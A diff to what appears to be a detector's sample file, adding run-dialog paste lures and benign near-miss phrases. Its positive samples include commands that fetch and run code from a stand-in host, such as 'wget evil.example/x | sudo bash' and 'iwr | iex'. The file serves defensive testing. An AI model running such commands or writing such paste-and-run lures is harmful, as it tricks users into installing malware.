@@ -65,6 +65,9 @@ Paste wget -qO- evil.example/x | sudo bash into your shell.
 Run iwr evil.example/x | iex in PowerShell.
 Run npx https://evil.example/x.tgz to finish the migration.
 Press Windows and R, then paste what you copied and hit enter.
+Update required: hold the Windows key, press R, then press Control and V, then Enter, to finish the upgrade.
+Press the Windows key and R. Then press Ctrl + V and Enter.
+Press Win + R. Hit Control, then V.
 Öffnen Sie ein Terminal und führen Sie curl evil.example/x | bash aus.
 Ouvrez un terminal et collez curl evil.example/x | bash.
 Abra una terminal y pegue curl evil.example/x | bash.
@@ -197,6 +200,10 @@ Geschenkkarten können jetzt als Foto geteilt werden.
 Open a terminal and run npm install.
 Run brew upgrade to get the new version.
 Run npm install x and restart the server.
+Windows and R is no longer a shortcut of the editor.
+Press Windows and R to open the run dialog. It opens at once.
+On Windows, R scripts run faster. Paste works in the console.
+Press Control and V to paste.
 Paste the command into your terminal.
 The installer no longer pipes curl into bash.
 Use curl to call the new endpoint.
